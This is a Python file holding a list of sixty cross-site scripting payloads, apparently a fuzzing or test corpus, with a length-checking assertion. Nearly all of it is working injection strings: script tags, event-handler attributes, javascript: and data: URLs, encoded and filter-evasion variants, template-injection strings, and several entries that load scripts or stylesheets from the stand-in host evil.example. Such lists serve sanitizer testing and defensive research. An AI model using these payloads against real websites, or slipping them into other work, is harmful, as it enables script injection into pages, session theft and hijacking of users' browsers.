"""Sixty ways to put a script into a page; each calls `hit(…)`, and fits in eighty characters."""

PAYLOADS = [
    "<script>hit(1)</script>", "<ScRiPt>hit(2)</sCrIpT>", "<script src=//evil.example/3></script>",
    "</script><script>hit(4)</script>", "<script\x0c>hit(5)</script>", "<scr<script>ipt>hit(6)</script>",
    "<img src=x onerror=hit(7)>", '"><img src=x onerror=hit(8)>', "'><img src=x onerror=hit(9)>",
    '<img/src="x"/onerror=hit(10)>', "<IMG SRC=x ONERROR=hit(11)>", "<img src='x' onerror\n=hit(12)>",
    "<svg onload=hit(13)>", "<svg/onload=hit(14)>", "<svg><script>hit(15)</script></svg>",
    "<svg><animate onbegin=hit(16) attributeName=x>", "<svg><a xlink:href=javascript:hit(17)><text>x</text></a>",
    "<math><maction actiontype=statusline xlink:href=javascript:hit(18)>x", "<body onload=hit(19)>",
    "<iframe src=javascript:hit(20)></iframe>", "<iframe srcdoc='<script>hit(21)</script>'></iframe>",
    "<object data=javascript:hit(22)></object>", "<embed src=javascript:hit(23)>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit(25)'>", "<link rel=stylesheet href=//evil.example/26.css>",
    "<style>@import'//evil.example/27.css';</style>", "<form action=javascript:hit(28)><button>x</button></form>",
    "<button formaction=javascript:hit(29) form=f>x</button>", "<input autofocus onfocus=hit(30)>",
    "<select autofocus onfocus=hit(31)><option>x</select>", "<textarea autofocus onfocus=hit(32)></textarea>",
    "</textarea><script>hit(33)</script>", "</title><script>hit(34)</script>", "--><script>hit(35)</script>",
    "<details open ontoggle=hit(36)>x</details>", "<video><source onerror=hit(37)></video>",
    "<audio src=x onerror=hit(38)>", "<marquee onstart=hit(39)>x</marquee>", "<a href=javascript:hit(40)>x</a>",
    "<a href='java\tscript:hit(41)'>x</a>", "<a href=&#106;avascript:hit(42)>x</a>", "javascript:hit(43)",
    "data:text/html,<script>hit(44)</script>", "vbscript:hit(45)", '" onmouseover=hit(46) x="',
    "' onfocus=hit(47) autofocus x='", "` onclick=hit(48) `", "{{ 7|add:'7' }}{% load static %}hit(49)",
    "${hit(50)}#{hit(50)}<%= hit(50) %>", "<x onpointerrawupdate=hit(51)>x</x>", "<xss style=animation-name:x>hit(52)</xss>",
    "&lt;script&gt;hit(53)&lt;/script&gt;", "%3Cscript%3Ehit(54)%3C/script%3E", "\\u003cscript\\u003ehit(55)\\u003c/script>",
    "<!--<img title='--><img src=x onerror=hit(56)>'>", "<noscript><p title='</noscript><img src=x onerror=hit(57)>'>",
    "<template><script>hit(58)</script></template>", "<isindex type=image src=x onerror=hit(59)>",
    "<dialog open hx-on:click=hit(60) hx-get=//evil.example>x",
]  # fmt: skip
assert len(PAYLOADS) == 60 and all(
    (len(payload) <= 80 and "hit(" in payload) or "evil" in payload for payload in PAYLOADS
)
